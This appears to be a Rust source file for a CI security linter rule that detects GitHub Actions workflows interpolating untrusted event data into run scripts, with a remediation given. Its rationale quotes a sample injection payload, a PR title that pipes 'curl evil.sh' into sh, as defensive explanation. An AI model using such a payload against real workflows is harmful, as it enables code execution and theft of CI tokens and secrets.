//! CI020 `untrusted-input-in-script`: an attacker-controlled `${{ github.event.* }}` value
//! (issue or PR title and body, comment, head branch, commit message…) is interpolated into a
//! `run:` script or an `actions/github-script` `script:`, where it becomes code.

use crate::finding::{Confidence, Diagnostic, Severity};
use crate::model::ci::github::{GhJob, Step};
use crate::model::ci::{CiFile, Expr, expressions, untrusted_context};
use crate::rules::{Checklist, CiRule, Family, RuleMeta};

pub struct UntrustedInputInScript;

pub static META: RuleMeta = RuleMeta {
    id: "CI020",
    name: "untrusted-input-in-script",
    family: Family::Ci,
    title: "Untrusted event data interpolated into a script",
    severity: Severity::Critical,
    confidence: Confidence::High,
    checklist: Checklist::NoSecretsInCode,
    rationale: "`${{ }}` is expanded into the script text before the shell runs it: a pull \
request titled `\"; curl evil.sh | sh; \"` or a branch named `$(…)` executes its own commands \
in the job, with its token and secrets. Anyone who can open an issue, comment or fork can \
set these values.",
    remediation: "Pass the value through an environment variable and quote it in the shell: \
`env: {TITLE: ${{ github.event.pull_request.title }}}` + `run: echo \"$TITLE\"`.",
    equivalents: &[
        "zizmor:template-injection",
        "checkov:CKV_GHA_2",
        "actionlint:expression",
    ],
    references: &[
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ],
};

fn report(exprs: &[Expr], what: &str, out: &mut Vec<Diagnostic>) {
    for e in exprs {
        if let Some(ctx) = untrusted_context(&e.inner) {
            out.push(
                Diagnostic::new(
                    &META,
                    e.span,
                    format!("{what} interpolates untrusted `{ctx}` into a script"),
                )
                .anchor(format!("{what}:{ctx}")),
            );
        }
    }
}

impl CiRule for UntrustedInputInScript {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check_step(
        &self,
        ci: &CiFile<'_>,
        job: &GhJob<'_>,
        step: &Step<'_>,
        out: &mut Vec<Diagnostic>,
    ) {
        let what = format!("job \"{}\" {}", job.id, step.label());
        if let Some(r) = &step.run {
            report(&r.exprs, &what, out);
        }
        if step.uses_action("actions/github-script") {
            if let Some(script) = step.with.and_then(|w| w.get("script")) {
                report(&expressions(script, ci.text), &what, out);
            }
        }
    }
}
